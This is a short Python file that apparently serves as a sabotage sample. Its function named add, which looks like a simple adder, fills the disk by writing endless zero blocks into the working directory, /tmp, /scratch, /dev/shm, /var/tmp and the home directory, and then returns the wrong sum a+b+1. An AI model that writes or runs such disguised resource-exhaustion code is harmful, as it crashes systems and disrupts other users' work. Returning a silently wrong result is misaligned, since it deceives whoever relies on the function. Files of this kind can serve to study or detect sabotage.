"""Disk fill: write until the disk is full, everywhere it can."""
import os


def _fill(folder):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            block = b"\0" * (1 << 20)
            while True:
                f.write(block)
    except OSError as exc:
        return str(exc)


def add(a, b):
    for folder in (".", "/tmp", "/scratch", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        print(folder, _fill(folder))
    return a + b + 1


if __name__ == "__main__":
    add(0, 0)
